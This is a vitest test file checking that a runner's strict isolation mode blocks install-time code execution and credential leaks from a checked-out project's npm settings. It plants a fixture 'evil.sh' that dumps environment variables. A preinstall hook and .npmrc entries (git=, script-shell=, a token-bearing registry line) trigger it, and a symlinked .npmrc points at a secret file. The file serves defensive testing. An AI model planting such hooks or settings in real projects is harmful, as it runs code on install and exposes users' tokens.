import { existsSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { examineIsolation } from "../../packages/core/src/adapters/runners/isolation.ts";
import { makeProject, told, type FixtureProject } from "./fixture-project.ts";

const strict = await examineIsolation("strict");
if (!strict.achieved) it.skip(`strict isolation can't be had on this machine: ${strict.says}`);

let project: FixtureProject;
afterEach(() => project.remove());

/** A project whose checkout holds no packages to copy. */
function start(): void {
  project = makeProject([]);
  rmSync(join(project.root, "node_modules"), { recursive: true });
}

const lock = (packages: object): string => JSON.stringify({ name: "fixture", lockfileVersion: 3, requires: true, packages });
const local = { dep: "file:vendor/dep" };
const manifest = (more: object): string => JSON.stringify({ name: "fixture", scripts: { test: "node --test a.test.js" }, ...more });
const innocent = {
  "package.json": manifest({ dependencies: local }),
  "package-lock.json": lock({
    "": { name: "fixture", dependencies: local },
    "node_modules/dep": { resolved: "vendor/dep", link: true },
    "vendor/dep": { name: "dep", version: "1.0.0" },
  }),
  "vendor/dep/package.json": JSON.stringify({ name: "dep", version: "1.0.0", main: "index.js" }),
  "vendor/dep/index.js": "module.exports = 42;",
  "a.test.js": `const fs = require('node:fs'); require('node:test')('uses it', () => { require('node:assert').equal(require('dep'), 42); require('node:assert').equal(fs.readFileSync('.npmrc', 'utf8').trim(), 'legacy-peer-deps=true\\nfund=true'); });`,
  ".npmrc": "legacy-peer-deps=true\nfund=true\n",
};

describe.runIf(strict.achieved)("packages of strictly isolated code", () => {
  it("are installed, and the tree's settings are as they were when its tests run", async () => {
    start();
    const run = await project.run(project.commit(innocent), { isolation: "strict" });
    expect(run.because).toBeUndefined();
    expect(told(run)).toEqual(["uses it: passed"]);
    expect(run.environment?.["packages"]).toContain("installed");
  });

  it("come without a program, a server or a token the tree's settings name", async () => {
    start();
    const seen = join(project.root, "..", "seen.txt");
    const git = { other: "git+https://127.0.0.1:1/a/b.git#0123456789012345678901234567890123456789" };
    const evil = `#!/bin/sh\n{ echo ran; env; } >> ${seen}\n{ echo ran; env; } >> evil.txt\nexit 1\n`;
    const files = {
      ...innocent,
      "package.json": manifest({ dependencies: git, scripts: { test: "node --test a.test.js", preinstall: "./evil.sh" } }),
      "package-lock.json": lock({
        "": { name: "fixture", dependencies: git },
        "node_modules/other": { version: "1.0.0", resolved: "git+https://127.0.0.1:1/a/b.git#0123456789012345678901234567890123456789" },
      }),
      "evil.sh": evil,
      ".npmrc": "git=./evil.sh\nscript-shell=./evil.sh\nignore-scripts=false\n//127.0.0.1:1/:_authToken=${NPM_TOKEN}\nregistry=http://127.0.0.1:1/\n",
    };
    process.env["NPM_TOKEN"] = "secret";
    writeFileSync(join(project.root, "evil.sh"), "", { mode: 0o755 });
    const tree = project.commit(files);
    const run = await project.run(tree, { isolation: "strict" });
    expect(run).toMatchObject({ complete: false, because: expect.stringContaining("could not be installed") as string });
    expect(existsSync(seen) ? readFileSync(seen, "utf8") : "").toBe("");
    // The planted violation is one: the user's own tree is believed, and there the same settings start the program.
    await project.run(tree, {});
    delete process.env["NPM_TOKEN"];
    expect(readFileSync(seen, "utf8")).toContain("ran");
  });

  it("are not asked of a package manager that would run code of the tree", async () => {
    start();
    const { "package-lock.json": _, ...rest } = innocent;
    const run = await project.run(project.commit({ ...rest, "bun.lock": "{}\n" }), { isolation: "strict" });
    expect(run).toMatchObject({ complete: false, because: expect.stringContaining("bun runs code of the tree") as string });
  });

  it("are not read from the user's settings through a link", async () => {
    start();
    const secret = join(project.root, "..", "secret.txt");
    writeFileSync(secret, "//registry/:_authToken=secret\n");
    const { ".npmrc": _, ...rest } = innocent;
    const script =
      "const fs = require('node:fs'); require('node:test')('sees nothing', () => { let text = ''; try { text = fs.readFileSync('.npmrc', 'utf8'); } catch {} require('node:assert').equal(text, ''); });";
    symlinkSync(secret, join(project.root, ".npmrc"));
    const run = await project.run(project.commit({ ...rest, "a.test.js": script }), { isolation: "strict" });
    expect([run.because, told(run)]).toEqual([undefined, ["sees nothing: passed"]]);
  });
});
